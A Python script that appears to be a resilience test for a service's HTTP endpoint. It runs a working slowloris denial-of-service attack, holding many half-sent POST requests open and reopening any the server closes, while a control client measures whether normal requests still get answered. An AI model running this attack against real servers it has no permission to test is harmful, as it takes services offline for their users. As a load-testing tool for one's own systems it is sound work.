#!/usr/bin/python3
"""slow_clients.py HOST PORT SLOW SECONDS — slowloris against an HTTP endpoint, with a control.

Opens SLOW connections that each start a POST /v1/receipts and then trickle one header byte
every half second, never finishing; whenever the server closes one, another is opened in its
place (the attacker keeps the pressure up). Meanwhile, once a second, a well-behaved client sends
a complete request (GET /healthz, then an unsigned POST /v1/receipts) and reads the answer.
All from one address, as behind the TLS proxy. After SECONDS prints one JSON line:
  good_total, good_answered  well-behaved requests, and those that got a whole HTTP response
  slow_opened                slow connections opened (SLOW at first, plus replacements)
  first_wave_closed          how many of the first SLOW the server closed while they trickled
"""
import json
import socket
import sys
import threading
import time

host, port, n_slow, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
START = b"POST /v1/receipts HTTP/1.1\r\nHost: hub\r\nContent-Type: application/json\r\n"


def open_slow():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((host, port))
        s.sendall(START)
    except OSError:
        s.close()
        return None
    s.setblocking(False)
    return s


def closed_by_server(s):
    """True when the server closed s (EOF or reset); sends the next trickled byte otherwise."""
    try:
        data = s.recv(4096)
        if data == b"" or data:  # EOF, or an error response: either way the server is done
            return True
    except BlockingIOError:
        pass
    except OSError:
        return True
    try:
        s.send(b"X")  # one more byte of a header line that never ends
    except BlockingIOError:
        pass
    except OSError:
        return True
    return False


def well_behaved(request):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(10)
    try:
        s.connect((host, port))
        s.sendall(request)
        buf = b""
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            buf += chunk
        return buf.startswith(b"HTTP/1.1 ") and b"\r\n\r\n" in buf
    except OSError:
        return False
    finally:
        s.close()


GOOD = [
    b"GET /healthz HTTP/1.1\r\nHost: hub\r\nConnection: close\r\n\r\n",
    b"POST /v1/receipts HTTP/1.1\r\nHost: hub\r\nConnection: close\r\n"
    b"Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}",
]

first = [open_slow() for _ in range(n_slow)]
first_alive = {id(s) for s in first if s}
slow = [s for s in first if s]
opened = len(slow)
first_closed = 0
good = {"total": 0, "answered": 0}
end = time.monotonic() + seconds


def good_client():
    """A well-behaved school, on its own thread: a whole request every second."""
    next_good = time.monotonic()
    while time.monotonic() < end:
        for req in GOOD:
            good["total"] += 1
            good["answered"] += well_behaved(req)
        next_good += 1
        time.sleep(max(0.0, next_good - time.monotonic()))


t = threading.Thread(target=good_client)
t.start()
while time.monotonic() < end:
    keep = []
    for s in slow:
        if closed_by_server(s):
            if id(s) in first_alive:
                first_closed += 1
                first_alive.discard(id(s))
            s.close()
            r = open_slow()
            if r:
                opened += 1
                keep.append(r)
        else:
            keep.append(s)
    slow = keep
    time.sleep(0.5)
t.join()
for s in slow:
    s.close()
print(json.dumps({"good_total": good["total"], "good_answered": good["answered"],
                  "slow_opened": opened, "first_wave": n_slow,
                  "first_wave_closed": first_closed}))
